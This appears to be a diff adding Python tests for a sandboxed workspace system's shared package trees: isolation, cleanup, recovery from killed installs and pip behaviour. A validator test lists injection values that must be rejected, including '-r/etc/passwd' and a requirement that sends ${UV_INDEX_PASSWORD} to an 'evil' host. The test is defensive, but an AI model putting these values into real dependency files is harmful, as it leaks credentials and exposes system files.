@@ -1,0 +1,278 @@
+"""Trees of packages that several workspaces show: shared, safe, counted and collected."""
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+
+import pytest
+
+from prism.agent.package_trees import TreeRecord, are_plain
+from prism.providers.local.cleaning import Cleaner
+from prism.templates.model import Template
+from prism.workspaces.model import Observed
+from tests.attacks.index import Index
+from tests.providers.local.sharing import PACKAGES, shared, summed
+from tests.providers.local.test_life import LENT, NOBODY, python_for_all, surroundings
+from tests.providers.local.test_sandbox import run
+from tests.providers.local.world import World
+from tests.waiting import eventually
+
+pytestmark = pytest.mark.skipif(
+    sys.platform != "linux" or not shutil.which("bwrap"), reason="there is no bubblewrap here"
+)
+UNTOUCHED = "[False, False, True, False]"
+SHARED_NETWORK = {"PRISM_WORKSPACE_NETWORK": "shared"}
+ATTACKED = "[True, True, False, True]"
+
+
+def judge(happened):
+    assert happened["sandbox"] == "bubblewrap"
+    assert happened["done"] == "['links', 'links']", "of its own copies"
+    assert happened["after"] == happened["restarted"] == [ATTACKED, UNTOUCHED]
+    assert happened["new"] == [UNTOUCHED]
+    assert happened["untouched"]
+    assert happened["trees"] == 1
+    assert happened["own_kib"] < 200, "a megabyte of it is in the tree"
+    assert len(happened["owners"]) == 1, "the daemon's user owns all that is on the disk"
+
+
+def test_a_workspace_changes_its_packages_and_nobody_elses(tmp_path):
+    judge(shared(tmp_path / "prism", tmp_path / "prism" / "cache"))
+
+
+@pytest.mark.skipif(os.getuid() != 0, reason="the test above ran as an ordinary user")
+def test_nor_in_the_home_of_an_ordinary_user():
+    with surroundings(NOBODY, None) as (home, environ):
+        argv = [*LENT, "env", python_for_all(), "-m", "tests.providers.local.sharing"]
+        argv += [home / "prism", home / "prism" / "cache"]
+        done = subprocess.run(argv, env=environ, cwd=home, capture_output=True, text=True)
+    assert done.returncode == 0, done.stderr
+    judge(json.loads(done.stdout))
+
+
+@pytest.fixture
+def index(monkeypatch):
+    index = Index()
+    monkeypatch.setenv("UV_DEFAULT_INDEX", f"{index.url}/simple")
+    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
+    for name in ("good", "spare", "packed"):
+        index.wheel(name, {f"{name}.py": f"{name} = 1\n"})
+    yield index
+    index.close()
+
+
+@pytest.fixture
+def world(tmp_path, index):
+    world = World(tmp_path / "prism", tmp_path / "prism" / "cache", told=SHARED_NETWORK)
+    yield world
+    world.close()
+
+
+def trees(world):
+    return {it.name for it in (world.cache / "trees").glob("*")}
+
+
+def cleaned(world, *, dry_run=False):
+    [found] = [
+        it
+        for it in Cleaner(world.root.parent).clean(dry_run=dry_run)
+        if it.kind == "package trees"
+    ]
+    return found
+
+
+def ended(world, id):
+    world.compute.terminate(id)
+    world.becomes(id, Observed.GONE)
+
+
+def test_a_tree_goes_when_no_workspace_has_it_also_none_that_is_stopped(world):
+    one = world.launched(PACKAGES)
+    two = world.launched(Template(name="u", packages={"pip": ("good",)}), key="ws_2")
+    world.compute.stop(one)
+    world.becomes(one, Observed.OFF)
+    assert len(trees(world)) == 2
+    assert cleaned(world).items == 0
+    ended(world, two)
+    assert cleaned(world, dry_run=True).items == 1
+    assert len(trees(world)) == 2
+    assert cleaned(world).items == 1
+    assert "workspaces that use them: 1" in cleaned(world).in_use[0]
+    assert trees(world) == {TreeRecord.of(world.root / one).key}
+    world.compute.start(one)
+    world.becomes(one, Observed.ON)
+    assert run(world, one, "python", "-c", "import good, spare") == (0, "")
+    ended(world, one)
+    assert cleaned(world).items == 1
+    assert trees(world) == set()
+
+
+def test_a_tree_that_was_removed_by_hand_is_made_again_and_own_changes_stay(world, index):
+    id = world.launched(PACKAGES)
+    before = TreeRecord.of(world.root / id)
+    code = "import good, pathlib; pathlib.Path(good.__file__).with_name('own.py').touch()"
+    assert run(world, id, "python", "-c", code) == (0, "")
+    world.compute.stop(id)
+    world.becomes(id, Observed.OFF)
+    shutil.rmtree(world.cache)
+    world.compute.start(id)
+    world.becomes(id, Observed.ON)
+    assert run(world, id, "python", "-c", "import good, spare, own") == (0, "")
+    assert TreeRecord.of(world.root / id) == before
+    world.compute.stop(id)
+    world.becomes(id, Observed.OFF)
+    shutil.rmtree(world.cache)
+    index.files.clear()
+    world.compute.start(id)
+    failure = eventually(lambda: world.machine(id).failure, 120)
+    assert "cannot be installed again" in failure.message
+    assert (world.root / id / "venv" / "upper").exists(), "nothing of its own is lost"
+
+
+def test_a_tree_whose_making_was_killed_is_never_shown(world, monkeypatch):
+    """uv stops in the middle, as if it were slow, and its supervisor is killed."""
+    shim = world.root.parent / "shim"
+    world.root.parent.mkdir(exist_ok=True)
+    script = '#!/bin/sh\n{uv} "$@" || exit\ncase "$*" in *--no-deps*) exec sleep 600;; esac\n'
+    id = world.launch(Template(name="t"))
+    world.becomes(id, Observed.ON)
+    world.compute.stop(id)
+    world.becomes(id, Observed.OFF)
+    order = json.loads((world.root / id / "order.json").read_bytes())
+    shim.write_text(script.format(uv=order["uv"]))
+    shim.chmod(0o755)
+    changed = {"uv": str(shim), "reachable": [*order["reachable"], str(shim)]}
+    world.orders(id, packages=["good"], **changed)
+    world.compute.start(id)
+    drafts = world.cache / "drafts"
+    eventually(lambda: list(drafts.glob("*/venv/lib/*/site-packages/good.py")), 120)
+    supervisor = world.supervisor(id)
+    supervisor.kill()
+    supervisor.wait()
+    assert trees(world) == set()
+    assert TreeRecord.of(world.root / id) is None
+    world.orders(id, uv=order["uv"])
+    world.becomes(id, Observed.OFF)
+    world.compute.start(id)
+    world.becomes(id, Observed.ON)
+    assert run(world, id, "python", "-c", "import good") == (0, "")
+    assert len(trees(world)) == 1
+    left = [it for it in drafts.iterdir() if it.is_dir()]
+    assert left, "what was killed is still there"
+    assert cleaned(world).items >= 1
+    assert not [*drafts.iterdir()]
+
+
+@pytest.mark.skipif(os.getuid() != 0, reason="only root may mount")
+def test_where_there_is_no_overlay_packages_are_copied(tmp_path, index):
+    """A folder of an overlay cannot be the upper layer of another."""
+    for name in ("lower", "upper", "work", "merged"):
+        (tmp_path / name).mkdir()
+    merged = tmp_path / "merged"
+    options = f"lowerdir={tmp_path}/lower,upperdir={tmp_path}/upper,workdir={tmp_path}/work"
+    mount = ["mount", "-t", "overlay", "overlay", "-o", options, str(merged)]
+    subprocess.run(mount, check=True)
+    world = World(merged / "prism", merged / "prism" / "cache", told=SHARED_NETWORK)
+    try:
+        id = world.launched(PACKAGES)
+        assert TreeRecord.of(world.root / id) is None
+        [file] = (world.root / id / "venv").glob("lib/*/site-packages/good.py")
+        assert file.stat().st_nlink == 1, "it is not the cache's either"
+        assert run(world, id, "python", "-c", "import good") == (0, "")
+        assert not (world.root / id / "overlay-trial").exists()
+        assert trees(world) == set()
+    finally:
+        world.close()
+        subprocess.run(["umount", str(merged)], check=True)
+
+
+def test_workspaces_that_come_at_once_wait_for_one_tree(world):
+    ids = [world.launch(PACKAGES, key=f"ws_{n}") for n in range(4)]
+    for id in ids:
+        world.becomes(id, Observed.ON)
+    assert len(trees(world)) == 1
+    made = [it for it in ids if "Installed" in world.log(it, "setup")]
+    assert len(made) == 1
+
+
+def test_another_template_gives_another_tree_and_an_empty_upper_layer(world):
+    id = world.launched(PACKAGES)
+    code = "import good, pathlib; pathlib.Path(good.__file__).with_name('own.py').touch()"
+    assert run(world, id, "python", "-c", code) == (0, "")
+    world.compute.stop(id)
+    world.becomes(id, Observed.OFF)
+    world.orders(id, packages=["spare"])
+    world.compute.start(id)
+    world.becomes(id, Observed.ON)
+    look = "import importlib.util as u; print([u.find_spec(it) is None for it in ('good', 'own')])"
+    assert run(world, id, "python", "-c", f"import spare; {look}") == (0, "[True, True]\n")
+
+
+def test_programs_are_found_where_they_were_installed_and_not_where_they_were_removed(
+    world, index
+):
+    index.wheel(
+        "tool",
+        {"tool.py": "def main(): print('works')\n",
+         "tool-1.0.dist-info/entry_points.txt": "[console_scripts]\ntool = tool:main\n"},
+    )  # fmt: skip
+    id = world.launched(Template(name="t", packages={"pip": ("tool",)}))
+    assert run(world, id, "tool") == (0, "works\n")
+    venv = f"{world.root / id}/venv"
+    assert run(world, id, "sh", "-c", f"mv {venv}/bin/tool {venv}/bin/moved") == (0, "")
+    assert run(world, id, "moved") == (0, "works\n")
+    with pytest.raises(Exception, match="no program"):
+        run(world, id, "tool")
+
+
+def test_pip_installs_upgrades_and_removes_in_a_workspace(tmp_path, packages):
+    """The real pip, over packages that come from the tree."""
+    world = World(tmp_path, packages)
+    try:
+        id = world.launched(Template(name="t", packages={"pip": ("six", "iniconfig")}))
+        tree = world.tree_of(id)
+        before = summed(tree)
+        made = "import pathlib, zipfile; z = zipfile.ZipFile('six-99-py3-none-any.whl', 'w');"
+        made += "z.writestr('six.py', 'new = 1');"
+        made += "z.writestr('six-99.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: six\\n"
+        made += "Version: 99\\n');"
+        made += "z.writestr('six-99.dist-info/WHEEL', 'Wheel-Version: 1.0\\nTag: py3-none-any\\n"
+        made += "Root-Is-Purelib: true\\n'); z.writestr('six-99.dist-info/RECORD', ''); z.close()"
+        assert run(world, id, "python", "-c", made) == (0, "")
+        pip = ["python", "-m", "pip", "--disable-pip-version-check", "--no-input"]
+        code, said = run(world, id, *pip, "install", "--no-index", "./six-99-py3-none-any.whl")
+        assert code == 0, said
+        assert run(world, id, "python", "-c", "import six; print(six.new)") == (0, "1\n")
+        code, said = run(world, id, *pip, "uninstall", "-y", "iniconfig")
+        assert code == 0, said
+        code, said = run(world, id, "python", "-c", "import iniconfig")
+        assert code == 1
+        assert "ModuleNotFoundError" in said
+        assert summed(tree) == before
+    finally:
+        world.close()
+
+
+@pytest.mark.parametrize(
+    ("word", "is_plain"),
+    [
+        ("numpy", True),
+        ("jupyterlab>=4,<5", True),
+        ("dask[array,dataframe]==2026.1.*", True),
+        ("scipy ~= 1.17", True),
+        ("-r/etc/passwd", False),
+        ("good\n-r/etc/passwd", False),
+        ("good\n", False),
+        ("x @ http://evil/${UV_INDEX_PASSWORD}", False),
+        ("x==${SECRET}", False),
+        ("git+https://evil/x", False),
+        ("good; python_version > '3'", False),
+        ("good --hash=sha256:0", False),
+        ("./good.whl", False),
+        ("good # more", False),
+    ],
+)
+def test_only_names_and_versions_are_written_into_a_file_of_requirements(word, is_plain):
+    assert are_plain([word]) is is_plain
